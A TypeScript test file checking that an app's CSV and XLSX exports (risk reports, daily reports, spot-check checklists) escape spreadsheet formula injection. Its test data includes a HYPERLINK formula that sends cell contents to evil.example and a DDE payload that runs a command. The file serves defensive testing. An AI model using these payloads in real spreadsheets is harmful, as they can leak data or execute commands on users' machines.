// Exports do not run formulas (OWASP CSV injection): a text beginning with =, +, -, @, tab or CR is
// written so that Excel and WPS show it as text — in CSV with a ' in front (one helper, contract/csv.ts),
// in XLSX as a string cell — while numbers, negative ones included, stay numbers. One test per export.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { csvField, guardText, unguardText } from '../src/contract/csv.ts';
import { openStore, type Store } from '../src/store/db.ts';
import { importRejectsCsv } from '../src/queries/import-history.ts';
import { itemsWorkbook } from '../src/queries/items-xlsx.ts';
import { riskCsv, type RiskReport } from '../src/report/risk.ts';
import { writeDailyXlsx } from '../src/report/daily-render.ts';
import type { DailyReport } from '../src/report/daily.ts';
import { CHECKLIST_SHEET, writeChecklist, type ChecklistRow } from '../src/spotcheck/checklist.ts';
import { createItems } from '../src/supervise/sync.ts';

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
// XML reads a bare CR back as LF (any XLSX text, formula or not): the XLSX round trips leave that one out.
const XLSX_HOSTILE = HOSTILE.filter((h) => !h.startsWith('\r'));

let dir: string;
let store: Store;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'yanpan-formula-'));
  store = await openStore(':memory:');
});
afterAll(async () => { store.close(); await rm(dir, { recursive: true, force: true }); });

/** Every cell of every worksheet: its XML (no <f> may appear) and each text as exceljs reads it back. */
async function xlsxCells(buf: Buffer): Promise<{ formulas: number; texts: string[]; numbers: number[] }> {
  const zip = await JSZip.loadAsync(buf);
  let formulas = 0;
  for (const [name, f] of Object.entries(zip.files)) if (/^xl\/worksheets\/.*\.xml$/.test(name)) formulas += ((await f.async('string')).match(/<f[ >]/g) ?? []).length;
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ArrayBuffer);
  const texts: string[] = [];
  const numbers: number[] = [];
  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => {
    if (cell.type === ExcelJS.ValueType.String) texts.push(cell.value as string);
    if (cell.type === ExcelJS.ValueType.Number) numbers.push(cell.value as number);
  })));
  return { formulas, texts, numbers };
}

describe('the CSV field', () => {
  it('prefixes a text that would start a formula with \', and reads it back', () => {
    for (const h of HOSTILE) {
      expect(guardText(h)).toBe(`'${h}`);
      expect(unguardText(guardText(h))).toBe(h);
    }
    expect(guardText('晋K12345')).toBe('晋K12345');
    expect(unguardText("'普通")).toBe("'普通");
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('=A1,"x"')).toBe('"\'=A1,""x"""');
  });
  it('leaves numbers, negative ones included, as numbers', () => {
    expect(csvField(-5)).toBe('-5');
    expect(csvField(-0.25)).toBe('-0.25');
    expect(csvField(null)).toBe('');
    expect(csvField('-5')).toBe("'-5");
  });
});

describe('each export', () => {
  it('rejects CSV: a refused value that starts a formula is text', async () => {
    await store.run("INSERT INTO imports VALUES (1, now()::TIMESTAMP, NULL, 'x', 'ok', NULL)");
    for (const [i, h] of HOSTILE.entries()) await store.run("INSERT INTO rejects VALUES (1, 'violations', 'v.csv', $1, 'plate', $2, '=原因')", [i + 2, h]);
    const csv = (await importRejectsCsv(store, 1))!;
    for (const h of HOSTILE) expect(csv).toContain(csvField(h));
    const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
    // The line number stays a number; the value and reason are guarded.
    expect(lines[1]).toMatch(/^1,violations,v\.csv,2,plate,/);
    expect(lines[1]).toContain(",'=原因");
    for (const h of HOSTILE) expect(csv).not.toContain(`,${h}`);
  });

  it('risk CSV: an officer\'s name or unit that starts a formula is text, the scores stay numbers', () => {
    const r = { officers: [{ officer_id: '@P1', name: HOSTILE[0], unit: '-U1', score: -1.5, rank: 1, counts: {} }] } as unknown as RiskReport;
    const line = riskCsv(r).split('\n')[1];
    expect(line.startsWith(`'@P1,"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")",'-U1,-1.5,1,`)).toBe(true);
  });

  it('items XLSX: a title that starts a formula is a string cell, written and read back unchanged', async () => {
    await createItems(store, 'test', XLSX_HOSTILE.map((h, i) => ({ category: 'spot-check', subject: { kind: 'sample', id: `1/v:${i}` }, unit: 'U1', severity: 'medium', rule: 'spot-check', title: h, evidence: [] })), 'test');
    const { buffer } = await itemsWorkbook(store, { username: 'sup', role: 'supervisor', unit: null }, { sort: 'updated_at', order: 'desc' }, '2021-07-11', '');
    const cells = await xlsxCells(buffer);
    expect(cells.formulas).toBe(0);
    expect(cells.texts).toEqual(expect.arrayContaining(XLSX_HOSTILE));
  });

  it('daily XLSX: a title or an officer that starts a formula is a string cell', async () => {
    const item = (title: string) => ({ section: 'missing', at: '2021-03-15 08:00', subject: { kind: 'violation', id: '+V1' }, officers: [{ id: '=P1', name: '@张三' }], severity: 'high', title });
    const r = { date: '2021-03-15', asOf: '2021-03-16', totals: { missing: HOSTILE.length, late: 0, deleted: 0 },
      units: [{ unit: '-U1', unit_name: '=甲大队', counts: { missing: HOSTILE.length, late: 0, deleted: 0 }, items: XLSX_HOSTILE.map(item) }] } as unknown as DailyReport;
    const f = join(dir, 'daily.xlsx');
    await writeDailyXlsx(r, f);
    const cells = await xlsxCells(await readFile(f));
    expect(cells.formulas).toBe(0);
    expect(cells.texts).toEqual(expect.arrayContaining([...XLSX_HOSTILE, '-U1', '=甲大队', '+V1']));
  });

  it('spot-check checklist XLSX: a summary or document number that starts a formula is a string cell and reads back as written', async () => {
    const rows: ChecklistRow[] = XLSX_HOSTILE.map((h, i) => ({ unit: 'U1', unit_name: '甲大队', order: i + 1, kind: 'violation', id: `V${i}`, doc_no: `-${i}`, at: '2021-03-15 08:00:00', officer_id: 'P1', officer_name: '张三', summary: h }));
    const f = join(dir, 'checklist.xlsx');
    await writeChecklist(f, { sampleId: 1, month: '2021-03', kind: 'documents', rate: 0.05, min: 3, seed: 1, generator: 'g', populationSha256: 'x', population: 10, drawn: rows.length, createdAt: '2021-04-01 09:00:00' },
      rows, [{ unit: 'U1', unit_name: '甲大队', population: 10, drawn: rows.length }]);
    const buf = await readFile(f);
    const cells = await xlsxCells(buf);
    expect(cells.formulas).toBe(0);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf as unknown as ArrayBuffer);
    const ws = wb.getWorksheet(CHECKLIST_SHEET)!;
    const header = (ws.getRow(1).values as unknown[]).map(String);
    const col = (name: string) => header.indexOf(name);
    const back = rows.map((_, i) => ws.getRow(i + 2));
    expect(back.map((r) => r.getCell(col('摘要')).value)).toEqual(XLSX_HOSTILE);
    expect(back.map((r) => r.getCell(col('摘要')).type)).toEqual(XLSX_HOSTILE.map(() => ExcelJS.ValueType.String));
    expect(back.map((r) => r.getCell(col('文书编号')).value)).toEqual(rows.map((r) => r.doc_no));
  });
});
